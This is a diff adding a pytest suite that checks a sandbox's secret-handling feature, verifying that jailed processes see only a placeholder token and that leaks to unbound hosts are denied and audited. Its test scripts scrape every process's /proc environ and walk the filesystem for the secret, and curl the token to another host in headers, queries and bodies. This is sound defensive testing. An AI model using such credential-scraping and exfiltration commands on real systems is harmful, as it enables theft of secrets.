@@ -1,0 +1,267 @@
+"""--secret: the jail can use a secret but never read it. Real jails (both modes), as the non-root test user,
+against a loopback TLS mock that records what it receives. The attacks: read the value from the environment,
+/proc of every process the jail can see and every file it can read; send the placeholder (or the real value)
+to a host the secret is not bound to, in a header, the query and the body."""
+
+from __future__ import annotations
+
+import hashlib
+import json
+import os
+import secrets
+import socket
+import ssl
+import string
+import subprocess
+import sys
+import threading
+from collections.abc import Iterator
+from dataclasses import dataclass, field
+from pathlib import Path
+
+import pytest
+
+from tests.support import CA, RunResult, audit_path, boundary_cmd, boundary_env, boundary_run, server_tls, wait_for
+
+MODES = ("nsjail", "landjail")
+PY = sys.executable
+
+
+@dataclass
+class Got:
+    host: str
+    method: str
+    path: str
+    headers: dict[str, str]
+    body_len: int
+    body_tail: bytes
+
+
+@dataclass
+class Mock:
+    """HTTPS on 127.0.0.1 for secure.test and other.test: records each request (the body's length and last
+    bytes only: a large upload is never held), answers GET /echo with the Authorization it got."""
+
+    ctx: ssl.SSLContext
+    got: list[Got] = field(default_factory=list)
+    port: int = 0
+
+    def start(self) -> Mock:
+        self.sock = socket.create_server(("127.0.0.1", 0))
+        self.port = self.sock.getsockname()[1]
+        threading.Thread(target=self._accept, daemon=True).start()
+        return self
+
+    def _accept(self) -> None:
+        while True:
+            try:
+                conn, _ = self.sock.accept()
+            except OSError:
+                return
+            threading.Thread(target=self._serve, args=(conn,), daemon=True).start()
+
+    def _serve(self, raw: socket.socket) -> None:
+        raw.settimeout(60)
+        try:
+            with self.ctx.wrap_socket(raw, server_side=True) as conn, conn.makefile("rb") as f:
+                while line := f.readline(65536):
+                    method, path, _ = line.decode("latin-1").split(" ", 2)
+                    headers: dict[str, str] = {}
+                    while (h := f.readline(65536)) not in (b"\r\n", b"\n", b""):
+                        k, _, v = h.decode("latin-1").partition(":")
+                        headers[k.strip().lower()] = v.strip()
+                    n, tail = self._body(f, headers)
+                    self.got.append(Got(headers.get("host", ""), method, path, headers, n, tail))
+                    out = json.dumps({"authorization": headers.get("authorization", ""), "received": n}).encode()
+                    conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n"
+                                 % len(out) + out)  # fmt: skip
+        except (OSError, ValueError, ssl.SSLError):
+            return
+
+    @staticmethod
+    def _body(f: object, headers: dict[str, str]) -> tuple[int, bytes]:
+        n, tail = 0, b""
+
+        def take(k: int) -> None:
+            nonlocal n, tail
+            while k > 0:
+                data = f.read(min(k, 1 << 16))  # type: ignore[attr-defined]
+                if not data:
+                    raise ValueError("short body")
+                n, k, tail = n + len(data), k - len(data), (tail + data)[-256:]
+
+        if headers.get("transfer-encoding", "").lower() == "chunked":
+            while size := int(f.readline(100).split(b";")[0], 16):  # type: ignore[attr-defined]
+                take(size)
+                f.readline(10)  # type: ignore[attr-defined]
+            f.readline(10)  # type: ignore[attr-defined]
+        else:
+            take(int(headers.get("content-length", "0")))
+        return n, tail
+
+
+@pytest.fixture(scope="module")
+def mock(ca: CA) -> Iterator[Mock]:
+    m = Mock(server_tls(ca)).start()
+    yield m
+    m.sock.close()
+
+
+def new_value() -> str:
+    return "sk-test-" + "".join(secrets.choice(string.ascii_letters + string.digits) for _ in range(48))
+
+
+def run(
+    tmp: Path, ca: CA, mock: Mock, mode: str, script: str, value: str, *extra: str, env: dict[str, str] | None = None
+) -> RunResult:
+    return boundary_run(
+        tmp, "--jail-type", mode, "--allow-private", "--upstream-ca", str(ca.ca_pem),
+        "--host-map", "secure.test=127.0.0.1", "--host-map", "other.test=127.0.0.1",
+        "--allow", f"domain=secure.test port={mock.port}",
+        "--allow", f"domain=other.test port={mock.port} method=GET,POST",  # inspected, so the proxy sees it all
+        "--secret", "MY_TOKEN=secure.test", *extra, "--workspace", str(tmp), "--", "sh", "-c", script,
+        env={"MY_TOKEN": value, "PORT": str(mock.port), **(env or {})}, cwd=tmp,
+    )  # fmt: skip
+
+
+def leaks(r: RunResult) -> list[dict[str, object]]:
+    return [x for x in r.audit_records() if x["event"] == "secret_leak"]
+
+
+# everything the jail can read that could hold it: every process's environment and command line, and the files
+# outside the system directories (those boundary never writes), dumped for the test to search outside the jail
+DUMP = r"""
+import os, sys
+out = open(sys.argv[1], "wb")
+for pid in os.listdir("/proc"):
+    if pid.isdigit():
+        for what in ("environ", "cmdline"):
+            try:
+                out.write(open(f"/proc/{pid}/{what}", "rb").read() + b"\n")
+            except OSError:
+                pass
+skip = ("/proc", "/sys", "/dev", "/usr", "/lib", "/lib64", "/bin", "/sbin", "/boot", sys.argv[1])
+for root, dirs, files in os.walk("/"):
+    dirs[:] = [d for d in dirs if os.path.join(root, d) not in skip]
+    for f in files:
+        p = os.path.join(root, f)
+        try:
+            if os.path.isfile(p) and not os.path.islink(p) and os.path.getsize(p) < 64 << 20:
+                with open(p, "rb") as fh:
+                    out.write(p.encode() + b"\n" + fh.read() + b"\n")
+        except OSError:
+            pass
+"""
+
+
+@pytest.mark.parametrize("mode", MODES)
+def test_the_bound_host_gets_the_value_and_the_jail_never_sees_it(
+    tmp_path: Path, ca: CA, mock: Mock, mode: str
+) -> None:
+    value = new_value()
+    (tmp_path / "dump.py").write_text(DUMP)
+    script = (
+        "echo env=$MY_TOKEN; "
+        f'{PY} -c "import sys; sys.stdout.write(open(\'/proc/self/environ\').read().replace(chr(0), chr(10)))" '
+        "| grep '^MY_TOKEN='; "
+        'curl -sS --max-time 30 -H "Authorization: Bearer $MY_TOKEN" "https://secure.test:$PORT/echo?k=$MY_TOKEN"; '
+        f"echo; {PY} dump.py dump.bin"
+    )
+    r = run(tmp_path, ca, mock, mode, script, value)
+    assert r.returncode == 0, r.stderr
+    placeholder = r.stdout.split("env=", 1)[1].split()[0]
+    assert placeholder.startswith("boundary-secret-")
+    assert len(placeholder) == len(value)
+    assert f"MY_TOKEN={placeholder}" in r.stdout
+    got = [g for g in mock.got if f"k={value}" in g.path]
+    assert got, r.stdout  # the mock got the real value in the URL and the header
+    assert got[-1].headers["authorization"] == f"Bearer {value}"
+    assert json.loads(r.stdout.splitlines()[2])["authorization"] == f"Bearer {placeholder}"  # its echo, hidden
+    assert value not in r.stdout
+    assert value not in r.stderr
+    dump = (tmp_path / "dump.bin").read_bytes()
+    assert b"MY_TOKEN=" + placeholder.encode() in dump  # the dump did read environments
+    assert value.encode() not in dump
+    assert value.encode() not in r.audit.read_bytes()
+
+
+@pytest.mark.parametrize("mode", MODES)
+def test_the_placeholder_sent_elsewhere_is_denied_and_audited(tmp_path: Path, ca: CA, mock: Mock, mode: str) -> None:
+    value = new_value()
+    before = len(mock.got)
+    base = '"https://other.test:$PORT'
+    script = (
+        f'curl -sS --max-time 30 -H "X-Api-Key: $MY_TOKEN" {base}/in-header"; echo " rc=$?"; '
+        f'curl -sS --max-time 30 {base}/in-query?q=$MY_TOKEN"; echo " rc=$?"; '
+        f"{PY} -c \"import sys; sys.stdout.write('x' * 200000 + sys.argv[1] + 'y' * 1000)\" $MY_TOKEN > body; "
+        f'curl -sS --max-time 30 --data-binary @body {base}/in-body"; echo " rc=$?"; '
+        f'curl -sS --max-time 30 {base}/clean"; echo " rc=$?"'
+    )
+    r = run(tmp_path, ca, mock, mode, script, value)
+    assert r.returncode == 0, r.stderr
+    found = leaks(r)
+    assert {str(x["path"]) for x in found} == {"/in-header", "/in-query", "/in-body"}, found
+    assert all(x["secret"] == "MY_TOKEN" and x["decision"] == "deny" for x in found)
+    assert r.stdout.count("secret_leak") >= 2  # the 403s for the header and the query say why
+    got = mock.got[before:]
+    assert [g.path for g in got if g.host.startswith("other.test")] == ["/clean"]  # no request with it arrived
+    assert "secret_leak" in r.stderr
+    assert "no --allow rule allows" not in r.stderr
+    assert value not in r.audit.read_text()
+
+
+@pytest.mark.parametrize("mode", MODES)
+def test_the_real_value_is_denied_even_to_its_own_host(tmp_path: Path, ca: CA, mock: Mock, mode: str) -> None:
+    value = new_value()
+    (tmp_path / "left-readable").write_text(value + "\n")
+    script = 'curl -sS --max-time 30 -H "Authorization: Bearer $(cat left-readable)" https://secure.test:$PORT/real'
+    r = run(tmp_path, ca, mock, mode, script, value)
+    assert "secret_leak: the real value of MY_TOKEN" in r.stdout
+    assert not [g for g in mock.got if g.path == "/real"]
+    assert [x["secret"] for x in leaks(r)] == ["MY_TOKEN"]
+
+
+@pytest.mark.parametrize("mode", MODES)
+def test_a_100_mib_upload_streams_with_bounded_memory(tmp_path: Path, ca: CA, mock: Mock, mode: str) -> None:
+    """+body: the placeholder at the end of a 100 MiB body is swapped as it streams; nothing holds the body."""
+    value = new_value()
+    size = 100 << 20
+    script = (
+        f"{PY} -c \"import sys; o = sys.stdout.buffer; [o.write(b'z' * (1 << 20)) for _ in range({size >> 20})]; "
+        f'o.write(sys.argv[1].encode())" $MY_TOKEN > upload; '
+        'curl -sS --max-time 120 -H "Content-Type: application/octet-stream" --data-binary @upload '
+        "https://secure.test:$PORT/upload"
+    )
+    args = (
+        "--jail-type", mode, "--allow-private", "--upstream-ca", str(ca.ca_pem), "--host-map", "secure.test=127.0.0.1",
+        "--allow", f"domain=secure.test port={mock.port}", "--secret", "MY_TOKEN=secure.test,+body",
+        "--workspace", str(tmp_path), "--", "sh", "-c", script,
+    )  # fmt: skip
+    # boundary's peak memory, and its descendants' (RUSAGE_CHILDREN of a process that only waits for it)
+    wrap = "import resource, subprocess, sys; rc = subprocess.run(sys.argv[1:]).returncode; "
+    wrap += "print('maxrss', resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss, file=sys.stderr); sys.exit(rc)"
+    p = subprocess.run(
+        [PY, "-c", wrap, *boundary_cmd(tmp_path, *args)], capture_output=True, text=True, timeout=300, cwd=tmp_path,
+        env={**boundary_env(tmp_path), "MY_TOKEN": value, "PORT": str(mock.port)}, stdin=subprocess.DEVNULL,
+    )  # fmt: skip
+    r = RunResult(p.returncode, p.stdout, p.stderr, audit_path(tmp_path))
+    peak_kib = int(r.stderr.rsplit("maxrss ", 1)[1].split()[0])
+    assert r.returncode == 0, r.stderr
+    got = wait_for(lambda: [g for g in mock.got if g.path == "/upload"])
+    assert got[-1].body_len == size + len(value)
+    assert got[-1].body_tail.endswith(value.encode())
+    assert json.loads(r.stdout)["received"] == size + len(value)
+    # boundary with mitmproxy loaded stays well under 200 MiB; a buffered body would add 100 MiB or more
+    assert peak_kib < 200 << 10, peak_kib
+
+
+def test_a_secret_needs_a_value_and_hosts(tmp_path: Path) -> None:
+    env = {k: v for k, v in os.environ.items() if k != "MY_TOKEN"}
+    r = boundary_run(tmp_path, "--secret", "MY_TOKEN", "--", "true", env=env)
+    assert r.returncode == 125
+    assert "name the hosts" in r.stderr or "not set" in r.stderr
+    r = boundary_run(tmp_path, "--secret", "MY_TOKEN=api.example.test", "--", "true", env={**env, "MY_TOKEN": "short"})
+    assert r.returncode == 125
+    assert "at least 16" in r.stderr
+    digest = hashlib.sha256(b"short").hexdigest()
+    assert digest not in r.stderr
